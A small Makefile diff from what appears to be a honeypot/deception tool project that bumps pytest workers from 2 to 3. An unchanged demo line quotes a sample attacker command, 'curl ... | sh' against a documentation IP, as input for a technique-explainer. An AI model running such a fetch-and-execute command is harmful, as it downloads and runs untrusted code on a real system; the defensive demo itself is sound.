@@ -15,7 +15,7 @@ demo: $(VENV)/.installed ## tag the recorded attack that ships with the project
 	@echo "Open build/demo/layer.json in the ATT&CK Navigator, or try: $(BIN)/decnet ttp explain 'curl -s http://203.0.113.7/x.sh | sh'"
 
 test: $(VENV)/.dev $(COWRIE)/.installed $(OPENCANARY)/.installed ## run every test, properties on the same examples each time
-	@$(BIN)/pytest --numprocesses 2 --dist worksteal --hypothesis-profile ci
+	@$(BIN)/pytest --numprocesses 3 --dist worksteal --hypothesis-profile ci
 
 check: $(VENV)/.dev ## format, lint, types, imports, spelling, rules
 	@$(BIN)/ruff format --check --quiet .
